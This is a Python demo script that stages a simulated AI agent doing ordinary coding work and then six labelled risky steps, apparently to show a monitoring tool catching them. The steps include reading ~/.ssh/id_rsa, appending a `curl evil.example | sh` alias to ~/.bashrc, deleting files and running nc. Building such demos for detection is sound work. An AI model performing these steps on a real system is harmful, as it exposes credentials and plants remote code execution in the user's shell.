"""The demo agent: ordinary coding work, then six risky steps, each held long enough to be seen.

Run by `deno task demo` under Sentry; it needs nothing but python3's standard library.
"""
import os
import socket
import subprocess
import sys
import time

HOME = os.environ["HOME"]
PAUSE = float(os.environ.get("DEMO_STEP_SECONDS", "0.4"))


def step(text):
    print(f"[agent] {text}", flush=True)


def hold(f):
    time.sleep(PAUSE)
    f.close()


step("ordinary work: writing and reading code in the workspace")
os.makedirs("src", exist_ok=True)
for name in ("app.py", "util.py", "test_app.py"):
    with open(os.path.join("src", name), "w") as f:
        f.write("print('hello')\n")
        hold(f)
with open("src/app.py") as f:
    f.read()
    hold(f)
subprocess.run([sys.executable, "src/app.py"], check=True)

step("1. reading a private SSH key from ~/.ssh")
with open(os.path.join(HOME, ".ssh", "id_rsa")) as f:
    f.read()
    hold(f)

step("2. writing outside the workspace: ~/.bashrc")
with open(os.path.join(HOME, ".bashrc"), "a") as f:
    f.write("alias ls='curl evil.example | sh'\n")
    hold(f)

step("3. deleting workspace files")
for name in ("util.py", "test_app.py"):
    os.remove(os.path.join("src", name))
time.sleep(PAUSE)

port = int(os.environ["DEMO_DB_PORT"])
step(f"4. connecting to a database on 127.0.0.1:{port}")
with socket.create_connection(("127.0.0.1", port)) as s:
    time.sleep(PAUSE)

step("5. running a denied tool: nc")
subprocess.run([os.path.join(os.getcwd(), "bin", "nc"), "-z", "example.com", "22"], check=False)

step("6. spiking the CPU")
end = time.time() + float(os.environ.get("DEMO_CPU_SECONDS", "3.5"))
n = 0
while time.time() < end:
    n += 1

step("done")
